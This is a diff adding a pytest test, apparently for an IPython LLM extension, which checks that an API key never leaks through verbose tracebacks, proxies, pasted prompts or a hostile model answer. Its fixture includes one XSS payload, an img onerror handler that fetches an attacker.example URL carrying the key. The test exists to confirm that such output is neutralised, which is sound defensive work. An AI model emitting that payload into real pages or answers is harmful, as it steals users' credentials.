@@ -272,3 +272,84 @@ def test_replay_cache_through_the_magic(shell, fake_provider, monkeypatch, tmp_p
         seen.add(f"sqlite file {file.name}", data.decode("utf-8", errors="replace"))
     assert ".llm_magic_cache.sqlite" in scanned and "history.sqlite" in scanned
     assert not seen.leaks()
+
+
+# -- the hostile paths: %xmode Verbose, proxies, a pasted key, a hostile answer's HTML -----------
+def test_hostile_paths_leak_the_key_nowhere(shell, fake_provider, monkeypatch, tmp_path, debug_logs):
+    from IPython.utils.capture import capture_output
+
+    from tests.harness.listener import RecordingListener
+    from tests.harness.markup_check import live_in_bundle
+
+    server = fake_provider("deepseek", key=KEY)
+    seen = Observed()
+
+    def run(source: str, *replies: Reply, pasted: bool = False) -> list[dict[str, Any]]:
+        """``pasted``: the key is in the cell's own text, so a full traceback quotes it as the cell's
+        source (the notebook holds it anyway); what llm_magic shows is checked: the short message."""
+        server.queue(*replies)
+        with capture_output() as captured:
+            result = shell.run_cell(source, store_history=True)
+        failure = result.error_in_exec or result.error_before_exec
+        if failure is not None and not pasted:
+            seen.error(f"cell {source!r}", failure)
+        elif isinstance(failure, e.LLMError):
+            seen.errors += 1
+            seen.add(f"refusal of {source!r}", f"{failure} {failure!r} {failure.texts('both')} "
+                                               f"{chr(10).join(failure._render_traceback_())}")
+        data = [o.data for o in captured.outputs]
+        seen.add(f"printed by {source!r}", captured.stdout + captured.stderr)
+        seen.add(f"displayed by {source!r}", json.dumps([(o.data, o.metadata) for o in captured.outputs],
+                                                         ensure_ascii=False, default=repr))
+        return data
+
+    shell.run_cell("%load_ext llm_magic")
+    # %xmode Verbose: a crash inside urllib3 while it holds the request headers, and one in the engine
+    shell.run_cell("%xmode Verbose")
+    with monkeypatch.context() as patched:
+        patched.setattr("urllib3.connectionpool.HTTPConnectionPool._make_request",
+                        lambda *a, **k: (_ for _ in ()).throw(RuntimeError("deep bug")))
+        run("%%llm deepseek\nhi")
+        run("import llm_magic\nllm_magic.ask('deepseek', 'hi')")
+    with monkeypatch.context() as patched:
+        patched.setattr("llm_magic.engine.assemble.AnswerBuilder.add_chunk",
+                        lambda *a, **k: (_ for _ in ()).throw(RuntimeError("engine bug")))
+        run("%%llm deepseek --debug\nhi")
+    run("%%llm deepseek --debug\nauth", Reply.error("auth"))
+    shell.run_cell("%xmode Context")
+
+    # proxies in the environment: loopback bypasses them, remote HTTPS tunnels through them
+    with RecordingListener() as proxy:
+        for variable in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
+            monkeypatch.setenv(variable, proxy.url)
+        run("%%llm deepseek\nthrough a proxy?", Reply.answer(TEXT))
+        with pytest.raises(e.LLMError) as caught:
+            llm_magic.ask("deepseek", "hi", key=KEY, base_url="https://llm-magic-audit.invalid/v1", max_retries=0)
+        seen.error("remote call through the proxy", caught.value)
+    seen.add("bytes the proxy received", proxy.everything.decode("latin-1"))
+    assert proxy.everything.startswith(b"CONNECT llm-magic-audit.invalid:443")
+    for variable in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
+        monkeypatch.delenv(variable)
+
+    # a key pasted into a prompt: refused; with --allow-secrets sent, but shown masked everywhere
+    before = server.request_count
+    run(f"%%llm deepseek\nwhy is {KEY} rejected?", pasted=True)
+    shell.user_ns["pasted"] = KEY
+    run("%%llm deepseek\nmy key: {pasted}")
+    assert server.request_count == before, "a pasted key was sent"
+    run(f"%%llm deepseek --allow-secrets --chat\nwhy is {KEY} rejected?", pasted=True)
+    assert server.request_count == before + 1
+    run("%llm_history")
+    seen.add("_llm after --allow-secrets", f"{shell.user_ns['_llm'].text} {shell.user_ns['_llm']!r}")
+
+    # a hostile answer that repeats the key inside live HTML: shown as text, masked
+    hostile = f'<img src=x onerror="fetch(`https://attacker.example/?k={KEY}`)"> {KEY}'
+    shown = run(f"%%llm deepseek --allow-secrets\n{KEY}", Reply.answer(hostile), pasted=True)
+    shown += run(f"%%llm deepseek --allow-secrets -f html\n{KEY}", Reply.answer(hostile), pasted=True)
+    assert shown and all(live_in_bundle(data) == [] for data in shown)
+
+    for record in debug_logs.records:
+        seen.add(f"log {record.name}", f"{record.getMessage()} {record.exc_text or ''}")
+    leaks = seen.leaks()
+    assert not leaks, leaks[:5]
+    assert seen.errors >= 5
